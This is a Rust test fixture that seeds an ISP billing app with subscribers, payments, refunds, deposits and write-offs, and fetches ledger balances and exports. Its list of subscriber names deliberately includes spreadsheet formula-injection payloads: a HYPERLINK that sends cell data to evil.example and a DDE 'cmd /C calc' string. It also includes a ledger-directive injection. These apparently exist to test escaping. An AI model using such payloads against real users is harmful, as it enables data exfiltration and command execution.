//! Two ISPs, one Indian and one Kenyan, with some weeks of everything that is booked.

use std::collections::BTreeMap;

use axum::body::Body;
use axum::http::{Request, header};
use rust_decimal::Decimal;
use serde_json::{Value, json};

use crate::harness::{Answer, Ask, TestApp, id, key};

/// Names as people make them who mean ill, and as people have them who do not.
pub const NAMES: [&str; 10] = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "Asha; Rao | (x) \"quoted\" \\ end",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "2026-01-01 open Assets:Stolen INR",
    "आशा राव, ಬೆಂಗಳೂರು",
    "-Njeri\u{2028}Mwangi\u{a0}",
    "Guest house type:Deluxe",
    "(x) type:L, date:2026-13-99 [2026-99-99]",
    "! (Rao",
    "* Rao type:A",
];

/// Subscribers with every kind of entry that the product books.
pub async fn trade(app: &TestApp, slug: &str) {
    let owner = app.on(slug).as_owner();
    let indian = slug != "baraka";
    if indian {
        let registration = json!({ "country": "IN", "region": "KA", "taxId": "29AAGCB7383J1Z4" });
        owner
            .mutate("taxRegistrationAdd", registration, "registration { id }")
            .await
            .done();
    }
    let settings = owner
        .gql("{ billingSettings { version } }", json!({}))
        .await
        .at("billingSettings.version");
    let rounded = json!({ "expectedVersion": settings, "roundInvoiceTo": "1", "activation": "ON_CREATE" });
    owner
        .mutate("billingSettingsUpdate", rounded, "settings { version }")
        .await
        .done();
    let address = |region: &str| match indian {
        true => json!({ "line1": "1 MG Road", "region": region, "country": "IN" }),
        false => json!({ "line1": "Moi Avenue", "country": "KE" }),
    };
    let plan = owner.plan("monthly", json!({ "price": "799.37" })).await;
    for (n, name) in NAMES.iter().enumerate() {
        let region = if n % 2 == 0 { "KA" } else { "TN" };
        let (subscriber, _) = owner.subscriber(name, json!({ "address": address(region) })).await;
        let (service, invoice) = owner.service(&subscriber, &plan, &format!("user{n}"), json!({})).await;
        settle(&owner, n, &subscriber, &id(&service), &id(&invoice)).await;
    }
    let (indebted, _) = owner.subscriber("Brought a debt", json!({})).await;
    let (ahead, _) = owner.subscriber("Brought credit", json!({})).await;
    for (subscriber, amount) in [(&indebted, "512.50"), (&ahead, "-75.25")] {
        let input = json!({ "subscriberId": subscriber, "amount": amount, "asOf": "2026-03-31", "idempotencyKey": key() });
        owner
            .mutate("openingBalanceRecord", input, "openingBalance { amount { amount } }")
            .await
            .done();
    }
    owner.pay(&indebted, "12.50").await;
    credit(&owner, &ahead).await;
    correct(&owner, &indebted, indian).await;
    for now in ["2026-04-20T06:00:00Z", "2026-05-02T06:00:00Z"] {
        app.set_clock(now).await;
        app.run_jobs().await;
    }
}

/// Credit is paid back and moved, a deposit taken and given back in part, a debt given up and paid in part after all.
async fn credit(owner: &Ask<'_>, ahead: &str) {
    let phone = json!({ "phone": "+919845012345" });
    let (shop, _) = owner.subscriber("Shop", phone.clone()).await;
    let (home, _) = owner.subscriber("Home", phone).await;
    let refund =
        json!({ "subscriberId": ahead, "amount": "25.25", "method": "CHEQUE", "reason": "Asked for", "idempotencyKey": key() });
    owner.mutate("creditRefund", refund, "refund { id }").await.done();
    owner.pay(&shop, "300.10").await;
    let moved = json!({ "fromSubscriberId": shop, "toSubscriberId": home, "amount": "120.05", "reason": "Asked for",
        "idempotencyKey": key() });
    owner.mutate("creditTransfer", moved, "transfer { reason }").await.done();
    let deposit = json!({ "subscriberId": home, "amount": "1000", "description": "Router", "idempotencyKey": key() });
    let deposit = owner.mutate("depositCharge", deposit, "deposit { id }").await.done();
    owner.pay(&home, "879.95").await;
    let back = json!({ "id": deposit["deposit"]["id"], "amount": "333.33", "reason": "Goodwill", "idempotencyKey": key() });
    owner.mutate("depositReturn", back, "deposit { id }").await.done();
    let (gone, _) = owner.subscriber("Gone", json!({})).await;
    let charge =
        json!({ "subscriberId": gone, "lines": [{ "description": "Cable", "unitPrice": "250" }], "idempotencyKey": key() });
    let owed = id(&owner.mutate("invoiceIssue", charge, "invoice { id }").await.done()["invoice"]);
    let given_up = json!({ "invoiceId": owed, "reason": "Gone", "idempotencyKey": key() });
    owner.mutate("invoiceWriteOff", given_up, "invoice { id }").await.done();
    let paid =
        json!({ "subscriberId": gone, "amount": "40.40", "method": "CASH", "invoiceIds": [owed], "idempotencyKey": key() });
    owner.mutate("paymentRecord", paid, "payment { id }").await.done();
}

/// Something more is charged on an invoice, and another is withdrawn where the law lets one.
async fn correct(owner: &Ask<'_>, subscriber: &str, indian: bool) {
    let charge = |price: &str| json!({ "subscriberId": subscriber, "lines": [{ "description": "Cable", "unitPrice": price }], "idempotencyKey": key() });
    let made = owner
        .mutate("invoiceIssue", charge("333.33"), "invoice { id lines { id } }")
        .await
        .done();
    let line = json!({ "invoiceLineId": made["invoice"]["lines"][0]["id"], "amount": "11.11" });
    let note = json!({ "invoiceId": made["invoice"]["id"], "lines": [line], "reason": "Longer", "idempotencyKey": key() });
    owner.mutate("debitNoteIssue", note, "debitNote { id }").await.done();
    let made = owner.mutate("invoiceIssue", charge("77.77"), "invoice { id }").await.done();
    let void = json!({ "invoiceId": made["invoice"]["id"], "reason": "Twice", "idempotencyKey": key() });
    let void = owner.mutate("invoiceVoid", void, "invoice { id }").await;
    assert_eq!(void.refusals().is_empty(), indian, "{}", void.text);
}

/// Each pays in a way of its own.
async fn settle(owner: &Ask<'_>, n: usize, subscriber: &str, service: &str, invoice: &str) {
    let method = ["CASH", "UPI", "BANK_TRANSFER", "MOBILE_MONEY", "CARD", "CHEQUE"][n % 6];
    let amount = ["2500.00", "400.01", "943.00", "5000.00", "1.00", "60.00"][n % 6];
    let input = json!({
        "subscriberId": subscriber, "amount": amount, "method": method, "reference": format!("=REF-{n}"), "idempotencyKey": key(),
    });
    let paid = owner.mutate("paymentRecord", input, "payment { id }").await.done();
    match n {
        6.. => {
            let back = json!({ "subscriberId": subscriber, "amount": "0.25", "method": "CASH", "reason": "Asked for",
                "idempotencyKey": key() });
            owner.pay(subscriber, "3000.25").await;
            owner.mutate("creditRefund", back, "refund { id }").await.done();
        }
        0 => {
            let reverse = json!({ "id": paid["payment"]["id"], "reason": "Bounced", "idempotencyKey": key() });
            owner.mutate("paymentReverse", reverse, "payment { id }").await.done();
        }
        1 => {
            let withheld = json!({ "invoiceId": invoice, "amount": "16.00", "reference": "TDS-1", "idempotencyKey": key() });
            owner.mutate("withholdingRecord", withheld, "invoice { id }").await.done();
        }
        2 => {
            let note = json!({ "invoiceId": invoice, "amount": "10.00", "reason": "An outage", "idempotencyKey": key() });
            owner.mutate("creditNoteIssue", note, "creditNote { id }").await.done();
        }
        3 => {
            let end = json!({ "id": service, "reason": "Moved away", "idempotencyKey": key() });
            owner.mutate("serviceTerminate", end, "service { id }").await.done();
        }
        _ => {}
    }
}

/// Every account's balance, by its name, as the API has it.
pub async fn balances(owner: &Ask<'_>) -> BTreeMap<String, Decimal> {
    let query = "query($after: String) { ledgerAccounts(first: 7, after: $after) {
        nodes { name balance { amount } debit { amount } credit { amount } } pageInfo { hasNextPage endCursor } } }";
    let mut all = BTreeMap::new();
    let mut after = Value::Null;
    loop {
        let page = owner.gql(query, json!({ "after": after })).await.at("ledgerAccounts");
        for node in page["nodes"].as_array().unwrap() {
            let amount = |field: &str| decimal(&node[field]["amount"]);
            assert_eq!(amount("balance"), amount("debit") - amount("credit"));
            let name = node["name"].as_str().unwrap().to_owned();
            assert_eq!(
                all.insert(name, amount("balance")),
                None,
                "names are of one account each: {node}"
            );
        }
        if page["pageInfo"]["hasNextPage"] == false {
            return all;
        }
        after = page["pageInfo"]["endCursor"].clone();
    }
}

pub fn decimal(value: &Value) -> Decimal {
    value
        .as_str()
        .unwrap_or_else(|| panic!("no amount: {value}"))
        .parse()
        .unwrap()
}

/// GET by this caller, with these headers besides.
pub async fn get(ask: &Ask<'_>, path: &str, more: &[(&'static str, String)]) -> Answer {
    let mut request = Request::get(path).header(header::HOST, &ask.host);
    for (name, value) in more {
        request = request.header(*name, value);
    }
    ask.send(request.body(Body::empty()).unwrap()).await
}

/// The journal in a format, fetched where the API says that it is.
pub async fn export(ask: &Ask<'_>, arguments: &str) -> String {
    let query = format!("{{ ledgerExport({arguments}) {{ url entries }} }}");
    let url = ask.gql(&query, json!({})).await.text_at("ledgerExport.url");
    let token = format!("Bearer {}", ask.token().await);
    let answer = get(ask, &url, &[("authorization", token)]).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    answer.text
}
